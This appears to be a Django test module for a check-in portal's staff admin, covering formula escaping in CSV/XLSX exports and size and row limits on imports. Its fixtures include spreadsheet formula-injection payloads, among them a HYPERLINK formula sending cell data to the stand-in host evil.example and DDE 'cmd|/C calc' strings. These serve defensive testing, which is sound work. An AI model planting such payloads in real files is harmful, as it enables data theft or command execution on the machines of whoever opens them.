"""Staff files are data, never code: every admin export escapes cells a spreadsheet would
run as a formula (CSV and XLSX), and every staff import screen refuses a file over the
documented limits with a message, importing nothing (checkin_portal/staff_formats.py,
checkin_portal/staff_files.py)."""

import csv
import io

import openpyxl
import pytest
from django.conf import settings
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile

from checkin_portal.staff_formats import EscapedCSV, EscapedXLSX, escape_formula
from hearings.models import Hearing
from subjects.models import Subject
from tests.addresses.factories import AddressChangeFactory
from tests.subjects.factories import SubjectFactory
from tests.subjects.test_admin_import_export import HEADER

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("http://evil.example/?d="&B2,"Open")'
EMAIL = "=cmd|'/Ccalc'!A0@example.org"
SUBJECTS = "/staff/subjects/subject/"
ADDRESS_CHANGES = "/staff/addresses/addresschange/"


@pytest.fixture
def staff_client(client):
    user = get_user_model().objects.create_superuser("boss", "b@example.invalid", "pw-long-enough")
    client.force_login(user)
    return client


def _cells(response) -> list[list]:
    """Every cell of an exported file, header first, as the spreadsheet will read it."""
    if response["Content-Type"].startswith("text/csv"):
        return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    sheet = book.active
    # A formula cell would have data_type "f"; an escaped one is plain text ("s").
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def _export(client, url, fmt, prefix, names):
    response = client.post(
        url + "export/",
        {"format": fmt, "resource": "0", **{f"{prefix}_{name}": "on" for name in names}},
    )
    assert response.status_code == 200, response.content[:500]
    return _cells(response)


@pytest.mark.parametrize("fmt", ["0", "1"])  # CSV, XLSX
def test_subject_export_escapes_a_formula_name(staff_client, fmt):
    SubjectFactory(subject_id="AB100001", given_names=NAME, family_names="-2+3")
    header, *rows = _export(
        staff_client,
        SUBJECTS,
        fmt,
        "subjectresource",
        ["subject_id", "given_names", "family_names", "a_number"],
    )
    row = dict(zip(header, rows[0], strict=True))
    assert row["given_names"] == "'" + NAME
    assert row["family_names"] == "'-2+3"
    assert row["subject_id"] == "AB100001"


@pytest.mark.parametrize("fmt", ["0", "1"])  # CSV, XLSX
def test_address_change_export_escapes_a_formula_email(staff_client, fmt):
    AddressChangeFactory(
        email=EMAIL, in_care_of="@SUM(1+1)*cmd|' /C calc'!A0", phone="+12025550123"
    )
    header, *rows = _export(
        staff_client,
        ADDRESS_CHANGES,
        fmt,
        "addresschangeresource",
        ["receipt", "email", "in_care_of", "phone"],
    )
    row = dict(zip(header, rows[0], strict=True))
    assert row["email"] == "'" + EMAIL
    assert row["in_care_of"].startswith("'@SUM")
    assert str(row["phone"]).lstrip("'") == "+12025550123"


def test_exports_offer_only_escaped_csv_and_xlsx():
    export_formats, import_formats = settings.IMPORT_EXPORT_FORMATS, settings.IMPORT_FORMATS
    assert export_formats == [EscapedCSV, EscapedXLSX]
    assert import_formats == [EscapedCSV]
    assert settings.IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT is True


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "'=1"),  # already escaped: unchanged (escaping twice changes nothing)
        ("-12", "-12"),
        ("+15551234567", "+15551234567"),
        ("-3.5", "-3.5"),
        ("Ana María", "Ana María"),
        ("", ""),
        (7, 7),
        (None, None),
    ],
)
def test_escape_formula(value, expected):
    assert escape_formula(value) == expected


# --- Import limits


def subject_rows(count: int) -> str:
    """``count`` valid subject rows, each with its own Subject ID and A-number."""
    return "".join(
        f"AB{200000 + i},MX,{100000000 + i},Ana,Ruiz,nta,2026-01-05,2026-03-01,,"
        "2026-03-02 09:30,Field Office,1 Main St,America/Chicago,0,0,,es\n"
        for i in range(count)
    )


def _upload(content: bytes, name="subjects.csv"):
    return SimpleUploadedFile(name, content, content_type="text/csv")


def test_subject_import_over_the_size_limit_is_refused(staff_client, settings):
    settings.STAFF_IMPORT_MAX_BYTES = 2000
    body = HEADER + subject_rows(40)  # well over 2,000 bytes
    response = staff_client.post(
        SUBJECTS + "import/",
        {"resource": "0", "format": "0", "import_file": _upload(body.encode())},
    )
    assert response.status_code == 200
    html = response.content.decode()
    assert "This file is too big" in html
    assert "The most is 2.0\xa0KB" in html
    assert response.context.get("confirm_form") is None
    assert Subject.objects.count() == 0


def test_subject_import_over_the_row_limit_is_refused(staff_client, settings):
    settings.STAFF_IMPORT_MAX_ROWS = 3
    rows = subject_rows(4)
    response = staff_client.post(
        SUBJECTS + "import/",
        {"resource": "0", "format": "0", "import_file": _upload((HEADER + rows).encode())},
    )
    assert response.status_code == 200
    assert "This file has too many rows. The most is 3 rows" in response.content.decode()
    assert response.context.get("confirm_form") is None
    assert Subject.objects.count() == 0


def test_subject_import_at_the_row_limit_is_accepted(staff_client, settings):
    settings.STAFF_IMPORT_MAX_ROWS = 3
    rows = subject_rows(3)
    response = staff_client.post(
        SUBJECTS + "import/",
        {"resource": "0", "format": "0", "import_file": _upload((HEADER + rows).encode())},
    )
    assert response.status_code == 200
    assert response.context["confirm_form"] is not None


def test_subject_import_of_a_file_that_is_not_csv_is_a_message(staff_client):
    response = staff_client.post(
        SUBJECTS + "import/",
        {"resource": "0", "format": "0", "import_file": _upload(b"\x00\xff\xfe" * 50)},
    )
    assert response.status_code == 200
    assert Subject.objects.count() == 0


def test_hearing_import_over_the_size_limit_is_refused(staff_client, settings):
    settings.STAFF_IMPORT_MAX_BYTES = 500
    body = "subject_id,a_number,court,date,time,type,format,judge,status\n" + (
        "AB100001,,ATL,2026-05-04,09:00,master,in_person,,scheduled\n" * 20
    )
    response = staff_client.post(
        "/staff/hearings/hearing/import/",
        {"resource": "0", "format": "0", "import_file": _upload(body.encode(), "hearings.csv")},
    )
    assert response.status_code == 200
    assert "This file is too big" in response.content.decode()
    assert Hearing.objects.count() == 0


def test_hearing_import_over_the_row_limit_is_refused(staff_client, settings):
    settings.STAFF_IMPORT_MAX_ROWS = 5
    body = "subject_id,a_number,court,date,time,type,format,judge,status\n" + (
        "AB100001,,ATL,2026-05-04,09:00,master,in_person,,scheduled\n" * 6
    )
    response = staff_client.post(
        "/staff/hearings/hearing/import/",
        {"resource": "0", "format": "0", "import_file": _upload(body.encode(), "hearings.csv")},
    )
    assert response.status_code == 200
    assert "This file has too many rows. The most is 5 rows" in response.content.decode()
    assert Hearing.objects.count() == 0
